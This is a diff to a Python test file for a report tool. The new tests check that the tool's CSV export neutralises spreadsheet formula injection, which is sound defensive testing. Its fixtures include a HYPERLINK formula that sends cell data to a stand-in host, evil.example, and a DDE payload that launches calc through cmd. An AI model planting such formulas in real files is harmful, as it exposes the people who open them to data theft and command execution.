@@ -14,7 +14,7 @@ from rolemap.cli import app as cli
 from rolemap.config import Settings
 from rolemap.errors import UnknownOrganisationError
 from rolemap.knowledge_base import KnowledgeBase
-from rolemap.report import build_report
+from rolemap.report import Finding, Report, build_report
 from rolemap.report_formats import FORMATS, render
 
 
@@ -84,6 +84,64 @@ def test_csv_opens_in_a_spreadsheet_one_finding_per_row(report):
     rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
     assert len(rows) == len(report.findings)
     assert {"check", "severity", "status", "message"} <= set(rows[0])
+
+
+def _one_finding_report(finding: Finding) -> Report:
+    summary = {"findings": 1, "open": 1, "settled": 0, "by_check": {finding.check: 1}}
+    return Report(False, summary, [finding], [], {"columns": [], "rows": []})
+
+
+def test_csv_cells_an_analyst_wrote_never_become_spreadsheet_formulas():
+    """CSV injection: a cell starting with = + - @ tab or CR runs as a formula in a spreadsheet;
+    OWASP's remedy is a leading ' (the cell then shows as text). Other cells stay as they are."""
+    link = '=HYPERLINK("https://evil.example/?d="&A2,"klik hier")'
+    finding = Finding(
+        check="homonym",
+        severity="Warning",
+        message=link,
+        question="+31 6 12345678 bellen?",
+        organisations=[{"id": "-team-noord", "label": "Team Noord"}],
+        terms=["@wijkkracht", "buurtkracht"],
+        sources=[{"document": "\tcmd|' /C calc'!A0"}],
+        settled_by=[{"id": "\rafspraak", "label": "afspraak"}],
+    )
+    text = render(_one_finding_report(finding), "csv")
+    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
+    assert row["message"] == "'" + link
+    assert row["question"] == "'+31 6 12345678 bellen?"
+    assert row["organisations"] == "'-team-noord"
+    assert row["terms"] == "'@wijkkracht; buurtkracht"
+    assert row["settled_by"] == "'\rafspraak"
+    assert row["sources"] == "'\tcmd|' /C calc'!A0"
+    assert row["check"] == "homonym" and row["severity"] == "Warning"
+    assert row["status"] == "settled"
+
+
+def test_csv_quotes_every_cell(report):
+    """OWASP's second remedy beside the leading ': each cell in double quotes, so that a
+    spreadsheet reads a cell's separators and quotes as text."""
+    lines = render(report, "csv").lstrip("\ufeff").splitlines()
+    for line, row in zip(lines, csv.reader(lines), strict=True):
+        assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in row)
+
+
+def test_csv_keeps_ordinary_text_exactly_as_it_is(report):
+    """Only a cell's first character counts: text with = or - inside is not touched."""
+    finding = Finding(
+        check="homonym",
+        severity="Warning",
+        message="'voorveld' = werk van de sociaal makelaar; één-op-één",
+        question=None,
+        organisations=[{"id": "wijkenco", "label": "Wijk&Co"}],
+        terms=["één-op-één begeleiding"],
+        sources=[],
+    )
+    text = render(_one_finding_report(finding), "csv")
+    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
+    assert row["message"] == finding.message
+    assert row["terms"] == "één-op-één begeleiding" and row["organisations"] == "wijkenco"
+    rows = list(csv.DictReader(io.StringIO(render(report, "csv").lstrip("\ufeff"))))
+    assert [r["message"] for r in rows] == [f.message for f in report.findings]
 
 
 def test_html_is_one_page_with_the_matrix_as_a_picture(report):
@@ -166,3 +224,17 @@ def test_the_whole_report_is_built_once_per_view_over_http(monkeypatch):
         first = client.get("/api/report")
         assert client.get("/api/report").json() == first.json()
     assert len(built) == 1
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="issue 8: rolemap.report must pass each finding's message through "
+    "rolemap.shacl_core.in_language (report.py is not part of this change)",
+)
+def test_a_dutch_report_says_the_default_messages_of_core_constraints_in_dutch(report):
+    """pySHACL's default messages are English ('Less than 1 values on …'); NL-SBB's profile
+    shapes give no Dutch sh:message for some constraints."""
+    from rolemap.shacl_core import in_language
+
+    english = [f.message for f in report.findings if in_language(f.message, "nl") != f.message]
+    assert english == []
